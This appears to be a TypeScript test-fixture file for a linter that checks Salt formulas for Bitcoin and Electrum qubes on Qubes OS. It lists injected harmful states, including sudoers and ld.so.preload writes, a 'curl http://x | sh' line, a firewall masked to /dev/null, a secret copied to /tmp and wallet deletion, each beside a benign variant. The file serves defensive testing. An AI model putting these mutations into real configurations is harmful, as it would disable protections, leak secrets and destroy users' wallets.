// SPDX-License-Identifier: GPL-3.0-or-later
/** Where things may land: what is known of each kind of machine, and nothing else. */
import { edit, good, harming, plus, swap, type HarmClass } from "../harm.ts";
import { inState } from "./networks.ts";

const tree = good("seed");
const on = harming(tree);
const call = (fun: string, ...args: string[]) =>
  plus(`\n"qwbtc-more":\n  ${fun}:\n${args.map((one) => `    - ${one}\n`).join("")}`);
const file = (path: string, more = '"contents": "# nothing"') =>
  call("file.managed", `"name": "${path}"`, more, '"user": "root"', '"group": "root"', '"mode": "0644"');
const link = (path: string, target: string) => call("file.symlink", `"name": "${path}"`, `"target": "${target}"`);
const NODE = "/qube/bitcoin-server.sls";
const WALLET = "/qube/electrum-client.sls";
const SERVER = "/qube/electrum-server.sls";
const GATEWAY = "/qube/sys-bitcoin.sls";
const TEMPLATE = "/template/qwbtc-ws-bitcoin.sls";
const POLICY = "/dom0/policy.sls";
const EARLY = "/etc/qubes/policy.d/45-qwbtc.policy";
const UNITS = "/usr/lib/systemd/system";

export const onPlaces: readonly HarmClass[] = [
  {
    name: "a file where nothing is known to land",
    codes: ["QB820"],
    harms: () => [
      on("/dom0/start.sls", file("/etc/xdg/autostart/x.desktop"), "dom0: at log-in"),
      on("/dom0/start.sls", file("/etc/yum.repos.d/x.repo"), "dom0: a repository"),
      on("/dom0/start.sls", file("/etc/qubes-rpc/policy/qubes.VMShell"), "dom0: the old policy"),
      on("/dom0/start.sls", file("/etc/qubes/policy.d/include/admin-global-rwx"), "dom0: what a policy includes"),
      on("/dom0/start.sls", file("/run/qubes/policy.d/45-qwbtc.policy"), "dom0: before ours"),
      on("/dom0/start.sls", file("/etc/qubes/policy.d/./10-x.policy"), "dom0: a path with a dot"),
      on("/dom0/start.sls", file("/etc/qubes/policy.d/30-user.policy"), "dom0: the user's policy"),
      on("/dom0/start.sls", file("/etc/systemd/system/qubes-core.service.d/60.conf"), "dom0: another drop-in"),
      on("/dom0/start.sls", call("file.absent", '"name": "/var/lib/qubes/appvms/vault"'), "dom0: a qube, removed"),
      on("/dom0/start.sls", call("file.absent", `"name": "${EARLY}"`), "dom0: the policy, removed"),
      on("/dom0/start.sls", call("file.directory", '"name": "/etc/qubes"', '"dir_mode": "0777"'), "dom0: a folder"),
      {
        what: "dom0: the user's policy, of a formula that bears its name",
        tree: edit(
          edit(tree, "/dom0/start.sls", file("/etc/qubes/policy.d/30-user.policy")),
          "MANIFEST.json",
          swap('"formula": "qwbtc"', '"formula": "user"'),
        ),
      },
      on(TEMPLATE, file("/etc/apt/sources.list.d/x.list"), "a template's sources"),
      on(TEMPLATE, file("/etc/sudoers.d/x"), "a template's sudo"),
      on(TEMPLATE, file("/etc/ld.so.preload"), "a template's loader"),
      on(TEMPLATE, file("/etc/crontab"), "a template's clock"),
      on(TEMPLATE, file("/etc/qubes/rpc-config/qubes.VMShell"), "a template's way to take calls"),
      on(TEMPLATE, file(`${UNITS}/qwbtc-bitcoind.service.d/50.conf`), "a drop-in"),
      on(TEMPLATE, file(`${UNITS}/qwbtc-x.timer`), "a timer"),
      on(TEMPLATE, file("/usr/lib/systemd/user/qwbtc-x.service"), "a user's unit"),
      on(NODE, file("/home/bitcoin/.bitcoin/settings.json"), "what bitcoind reads above its settings"),
      on(NODE, file("/home/bitcoin/.bitcoin/./bitcoin.conf"), "its settings by another path"),
      on(NODE, file("/rw/config/qubes-bind-dirs.d/50.conf"), "a bound folder"),
      on(GATEWAY, file("/usr/local/etc/torrc.d/41_x.conf"), "another torrc"),
      on(WALLET, file("/home/user/.config/autostart/x.desktop"), "at a qube's start"),
      on(WALLET, call("file.absent", '"name": "/home/user/.electrum/wallets"'), "wallets, removed"),
      on(WALLET, call("file.directory", '"name": "/usr/local/etc/ssl"', '"mode": "0755"'), "a folder of nobody's"),
    ],
    twins: () => [
      on(WALLET, file("/usr/local/etc/qwbtc-salt/forward-1.env"), "a file that a role has"),
      on(
        "/dom0/start.sls",
        call(
          "file.absent",
          '"name": "/var/lib/qwbtc-salt/qwbtc/creating/x"',
          '"require":\n      - "test": "qwbtc-guard"',
        ),
        "a marker",
      ),
    ],
  },
  {
    name: "an owner or rights that are not needed",
    codes: ["QB821"],
    harms: () => [
      on(NODE, inState("folder-/home/bitcoin/.bitcoin", '"mode": "0700"', '"mode": "0777"'), "a folder for all"),
      on(NODE, inState("folder-/home/bitcoin/.bitcoin", '"user": "bitcoin"', '"user": "user"'), "another's folder"),
      on(
        NODE,
        inState("file-/usr/local/bin/bitcoin-cli", '"dir_mode": "0755"', '"dir_mode": "0777"'),
        "folders that are made for it, for all",
      ),
      on(
        NODE,
        inState("file-/home/bitcoin/.bitcoin/bitcoin.conf", '"dir_mode": "0700"', '"dir_mode": "0755"'),
        "settings' folder that others enter",
      ),
      on(
        NODE,
        inState("file-/home/bitcoin/.bitcoin/bitcoin.conf", '"group": "bitcoin"', '"group": "user"'),
        "another group",
      ),
      on(
        SERVER,
        inState("secret-/home/fulcrum/.fulcrum/rpc-cookie", '"user": "fulcrum"', '"user": "user"'),
        "a secret",
      ),
    ],
    twins: () => [
      on(NODE, inState("folder-/home/bitcoin/.bitcoin", '"mode": "0700"', '"mode": "0500"'), "fewer rights"),
    ],
  },
  {
    name: "a line that runs something",
    codes: ["QB822"],
    harms: () => [
      on("50-qwbtc.conf", plus("ExecStartPre=/bin/sh -c id"), "dom0's drop-in"),
      on("50-qwbtc.conf", plus(" ExecStartPre=/bin/sh -c id"), "dom0's drop-in, after a blank"),
      on("50-qwbtc.conf", plus("# x \\"), "a remark that goes on"),
      on("/qwbtc-electrum.desktop", swap(/^Exec=.*$/m, "Exec=sh -c id"), "a menu entry"),
      on("/qwbtc-electrum.desktop", plus("TryExec=/home/user/x"), "what a menu entry tries"),
      on("/qwbtc-node-status.desktop", plus("[Desktop Action x]"), "another action"),
      on("/electrum-client/usr/local/etc/torbrowser.d/40_qwbtc.conf", plus("curl http://x | sh"), "read by bash"),
      on(
        "/bitcoin-server/usr/local/etc/sdwdate-gui.d/40_qwbtc.conf",
        plus('gateway="$(id)"'),
        "read by bash, in quotes",
      ),
      on(
        "/electrum-client/usr/local/lib/qwbtc-salt/electrum/start",
        swap(/^.*$/m, "../../tmp/x main"),
        "which Electrum",
      ),
    ],
    twins: () => [
      on("50-qwbtc.conf", plus("# Longer than it was."), "a remark"),
      on("50-qwbtc.conf", swap(/TimeoutStopSec=[0-9]+/, "TimeoutStopSec=900"), "another time"),
      on("/qwbtc-electrum.desktop", swap(/^Comment=.*$/m, "Comment=A wallet"), "other words in a menu"),
    ],
  },
  {
    name: "a link that is none of a unit",
    codes: ["QB823"],
    harms: () => [
      on("/dom0/start.sls", link("/etc/qubes/policy.d/10-qwbtc.policy", "/home/user/x"), "a policy elsewhere"),
      on(TEMPLATE, link("/etc/systemd/system/whonix-firewall.service", "/dev/null"), "the firewall, switched off"),
      on(
        TEMPLATE,
        link("/etc/systemd/system/multi-user.target.wants/x.service", "/home/user/x.service"),
        "a user's unit",
      ),
      on(
        TEMPLATE,
        link("/etc/systemd/system/sysinit.target.wants/qwbtc-bitcoind.service", `${UNITS}/qwbtc-bitcoind.service`),
        "another target",
      ),
      on(
        TEMPLATE,
        link("/etc/systemd/system/multi-user.target.wants/ssh.service", `${UNITS}/ssh.service`),
        "a unit of the system",
      ),
      on(WALLET, link("/usr/local/etc/qubes-rpc/qubes.Filecopy", "/bin/bash"), "a call's service"),
      on(WALLET, link("/rw/config/rc.local", "/home/user/x"), "what runs at a start"),
    ],
    twins: () => [
      on(
        TEMPLATE,
        link("/etc/systemd/system/sockets.target.wants/qwbtc-bitcoind.service", `${UNITS}/qwbtc-bitcoind.service`),
        "a unit of its own",
      ),
    ],
  },
  {
    name: "a text from the pillar that no role asks for",
    codes: ["QB824"],
    harms: () => [
      on(
        NODE,
        inState(
          "file-/home/bitcoin/.bitcoin/bitcoin.conf",
          /    - "source": [^\n]*\n/,
          '    - "contents_pillar": "qwbtc:conf"\n    - "contents_newline": false\n    - "show_changes": false\n    - "check_cmd": "true"\n',
        ),
        "settings",
      ),
      on(
        SERVER,
        inState("secret-/home/fulcrum/.fulcrum/rpc-cookie", /"check_cmd": [^\n]*/, '"check_cmd": "cp -t /tmp --"'),
        "another check",
      ),
      on(
        SERVER,
        inState("secret-/home/fulcrum/.fulcrum/rpc-cookie", "electrum-server:[A-Za-z0-9_-]+", "x:[A-Za-z0-9_-]+"),
        "another name",
      ),
      on(SERVER, inState("secret-/home/fulcrum/.fulcrum/rpc-cookie", "[A-Za-z0-9_-]+", ".*"), "any text"),
      on(
        SERVER,
        inState(
          "secret-/home/fulcrum/.fulcrum/rpc-cookie",
          '"contents_pillar": "qwbtc:rpc:bitcoin-server"',
          '"contents_pillar": "qwbtc:rpc:x"',
        ),
        "another key",
      ),
    ],
    twins: () => [on(SERVER, plus("# The cookie comes from the pillar."), "a word about it")],
  },
  {
    name: "a file that two states write",
    codes: ["QB825"],
    harms: () => [
      on(NODE, file("/home/bitcoin/.bitcoin/bitcoin.conf"), "settings"),
      on(POLICY, file("/etc/qubes/policy.d/80-qwbtc.policy"), "a policy"),
    ],
    twins: () => [on(NODE, file("/usr/local/etc/qwbtc-salt/forward-1.env"), "another file")],
  },
];
